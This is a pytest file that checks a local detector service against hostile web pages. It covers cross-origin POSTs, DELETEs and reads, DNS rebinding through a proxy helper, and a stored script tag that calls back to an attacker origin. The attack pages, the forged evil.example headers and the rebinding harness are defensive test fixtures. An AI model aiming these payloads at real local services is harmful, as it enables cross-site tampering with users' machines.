"""What web pages can do to a local service: nothing. Shown by a real browser, and by its exact headers."""

import base64
import socket
import threading
import time
from collections.abc import Iterator
from contextlib import contextmanager, suppress
from pathlib import Path

import httpx
import pytest

from tests.calls import RED, connected, create
from tests.e2e.browser import attacking, browsing, needs_chromium, rendered
from tests.problems import assert_problem
from tests.server import Server, running

NAVIGATION = {
    "User-Agent": "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/150.0.0.0",
    "Accept": "text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,image/webp,*/*;q=0.8",
    "Sec-Fetch-Site": "cross-site",
    "Sec-Fetch-Mode": "navigate",
    "Sec-Fetch-Dest": "iframe",
}
# A page that sends an image to the service in each way that a page of another origin has without asking.
POSTING = """<!doctype html><body><iframe name="hole"></iframe><script>
const png = Uint8Array.from(atob("PNG"), c => c.charCodeAt(0));
const body = () => { const data = new FormData();
  data.append("false_alarm_rate", "0.5");
  for (let i = 0; i < 3; i++) data.append("images", new Blob([png], {type: "image/png"}), i + ".png");
  return data; };
const target = "TARGET/v1/detectors/victim/calibrate";
const tell = (name, value) => fetch("/report?" + name + "=" + encodeURIComponent(value));
(async () => {
  const opaque = await fetch(target, {method: "POST", mode: "no-cors", body: body()}).catch(e => e);
  await tell("opaque", opaque.type || opaque);
  await fetch(target, {method: "POST", body: body()}).then(
    r => tell("cors", r.status), e => tell("cors", "blocked"));
  await fetch("TARGET/v1/detectors/victim", {method: "DELETE"}).then(
    r => tell("deleted", r.status), e => tell("deleted", "blocked"));
  await fetch("TARGET/v1/detectors").then(r => tell("read", r.status), e => tell("read", "blocked"));
  const form = document.createElement("form");
  Object.assign(form, {method: "POST", enctype: "multipart/form-data", action: target, target: "hole"});
  const input = document.createElement("input");
  Object.assign(input, {type: "file", name: "images", multiple: true});
  const files = new DataTransfer();
  for (let i = 0; i < 3; i++) files.items.add(new File([png], i + ".png", {type: "image/png"}));
  input.files = files.files;
  const rate = Object.assign(document.createElement("input"), {name: "false_alarm_rate", value: "0.5"});
  form.append(input, rate);
  document.body.append(form);
  document.querySelector("iframe").onload = () => tell("form", "sent");
  form.submit();
})();
</script></body>"""
HEAD = b"HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nContent-Length: %d\r\nConnection: close\r\n\r\n"
# A page whose own name leads to the service by now.
REBOUND = """<!doctype html><script>
const report = "REPORT/report?";
const tell = (name, value) => fetch(report + name + "=" + encodeURIComponent(value), {mode: "no-cors"});
(async () => {
  const read = await fetch("/v1/detectors");
  await tell("read", read.status + " " + (await read.json()).type);
  const made = await fetch("/v1/detectors", {method: "POST", headers: {"Content-Type": "application/json"},
    body: JSON.stringify({name: "rebound", concepts: ["a", "b"]})});
  await tell("made", made.status + " " + (await made.json()).type);
})();
</script>"""


@pytest.fixture(scope="module")
def server(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Server]:
    """A service as somebody runs it on their own machine: no keys."""
    with running(tmp_path_factory.mktemp("local")) as server:
        yield server


@pytest.fixture
def http(server: Server) -> Iterator[httpx.Client]:
    """A client of it, with a detector that pages want to harm; nothing of it may change."""
    with connected(server.url) as http:
        http.delete("/v1/detectors/victim")
        before = create(http, "victim", ["red", "green"])
        yield http
        assert http.get("/v1/detectors/victim").json() == before
        assert [d["name"] for d in http.get("/v1/detectors").json()["detectors"]] == ["victim"]


def refused_posts(server: Server) -> int:
    """How many posts to the victim the service has refused, by its log."""
    return sum("method='POST'" in line and "victim" in line and "status=403" in line for line in server.lines)


# ---- with a real browser


@needs_chromium
def test_a_page_of_another_origin_cannot_post_images_delete_or_read(
    server: Server, http: httpx.Client, tmp_path: Path
) -> None:
    before = refused_posts(server)
    with attacking() as attacker:
        page = POSTING.replace("TARGET", server.url).replace("PNG", base64.b64encode(RED).decode())
        attacker.pages["/"] = page
        with browsing(f"{attacker.origin}/", tmp_path / "profile"):
            assert attacker.wait_for("form") == "sent"
    assert attacker.reports["opaque"] == "opaque"  # sent, and the answer hidden from the page
    assert attacker.reports["cors"] == "blocked"
    assert attacker.reports["deleted"] == "blocked"  # by the preflight
    assert attacker.reports["read"] == "blocked"
    end = time.monotonic() + 10  # the log's lines are on their way
    while refused_posts(server) < before + 3 and time.monotonic() < end:
        time.sleep(0.01)
    assert refused_posts(server) == before + 3, "the browser did not send all three"


@needs_chromium
def test_a_page_whose_name_was_rebound_to_this_machine_can_do_nothing(
    server: Server, http: httpx.Client, tmp_path: Path
) -> None:
    with (
        attacking() as attacker,
        rebinding(REBOUND.replace("REPORT", attacker.origin), server) as port,
        browsing(f"http://evil.example:{port}/", tmp_path / "profile"),
    ):
        assert attacker.wait_for("read") == "403 /problems/forbidden-host"
        assert attacker.wait_for("made") == "403 /problems/forbidden-host"


@needs_chromium
def test_the_documentation_renders_under_its_own_policy(server: Server, tmp_path: Path) -> None:
    page, console = rendered(f"{server.url}/docs", tmp_path / "profile")
    assert 'class="opblock' in page
    assert "/v1/detectors/{name}/calibrate" in page.replace("\u200b", "")
    assert "Content Security Policy" not in console
    assert "Refused" not in console


@needs_chromium
def test_a_script_in_a_name_is_shown_and_not_run(server: Server, tmp_path: Path) -> None:
    with attacking() as attacker, connected(server.url) as http:
        script = f"<script>fetch('{attacker.origin}/report?ran=1');document.title='ran'</script>"
        create(http, "scripted", [script, "red"])
        page, _ = rendered(f"{server.url}/v1/detectors/scripted", tmp_path / "profile")
        http.delete("/v1/detectors/scripted")
    assert "&lt;script&gt;" in page
    assert "<title>ran" not in page
    assert attacker.reports == {}


# ---- with a browser's exact headers, where there is no browser


def test_the_posts_that_a_browser_sends_across_sites_are_refused_and_store_nothing(
    server: Server, http: httpx.Client
) -> None:
    images = [("images", (f"{i}.png", RED, "image/png")) for i in range(3)]
    for origin in ("http://evil.example:8080", "null"):
        headers = NAVIGATION | {"Origin": origin, "Referer": "http://evil.example:8080/"}
        response = http.post(
            "/v1/detectors/victim/calibrate", files=images, data={"false_alarm_rate": "0.5"}, headers=headers
        )
        assert_problem(response, 403, "forbidden-origin")
        assert "access-control-allow-origin" not in response.headers


def test_the_requests_of_a_rebound_page_are_refused_though_they_are_of_one_origin(
    server: Server, http: httpx.Client
) -> None:
    host = f"evil.example:{server.url.rpartition(':')[2]}"
    headers = NAVIGATION | {"Host": host, "Sec-Fetch-Site": "same-origin", "Sec-Fetch-Mode": "cors"}
    assert_problem(http.get("/v1/detectors", headers=headers), 403, "forbidden-host")
    made = http.post(
        "/v1/detectors",
        json={"name": "rebound", "concepts": ["a", "b"]},
        headers=headers | {"Origin": f"http://{host}"},
    )
    assert_problem(made, 403, "forbidden-host")


def test_the_same_post_without_a_foreign_page_does_calibrate(server: Server) -> None:
    """What is refused above is refused for its origin alone."""
    images = [("images", (f"{i}.png", RED, "image/png")) for i in range(3)]
    with connected(server.url) as http:
        create(http, "control", ["red", "green"])
        for origin in ({}, {"Origin": server.url, "Sec-Fetch-Site": "same-origin"}):
            response = http.post(
                "/v1/detectors/control/calibrate",
                files=images,
                data={"false_alarm_rate": "0.5"},
                headers=origin,
            )
            assert response.status_code == 200, response.text
        http.delete("/v1/detectors/control")


@contextmanager
def rebinding(page: str, server: Server) -> Iterator[int]:
    """A port that serves the attacker's page, and leads to the service as soon as the page is loaded.

    That is how it looks to a browser when the attacker's name is given the address of this machine.
    """
    listener = socket.create_server(("127.0.0.1", 0))
    loaded = threading.Event()

    def serve() -> None:
        with suppress(OSError):  # the listener is closed: the end
            while True:
                connection, _ = listener.accept()
                threading.Thread(target=take, args=(connection,), daemon=True).start()

    def take(connection: socket.socket) -> None:
        with connection, suppress(OSError):
            start = connection.recv(65536)
            if start.startswith(b"GET / ") and not loaded.is_set():
                connection.sendall(HEAD % len(page) + page.encode())
                loaded.set()
            elif start:
                forward(connection, start)

    def forward(connection: socket.socket, start: bytes) -> None:
        port = int(server.url.rpartition(":")[2])
        with socket.create_connection(("127.0.0.1", port)) as upstream:
            upstream.sendall(start)
            back = threading.Thread(target=pump, args=(upstream, connection), daemon=True)
            back.start()
            pump(connection, upstream)
            back.join()

    thread = threading.Thread(target=serve)
    thread.start()
    try:
        yield listener.getsockname()[1]
    finally:
        listener.shutdown(socket.SHUT_RDWR)
        listener.close()
        thread.join()


def pump(source: socket.socket, sink: socket.socket) -> None:
    """Copy bytes until the source ends."""
    with suppress(OSError):
        while data := source.recv(65536):
            sink.sendall(data)
        sink.shutdown(socket.SHUT_WR)
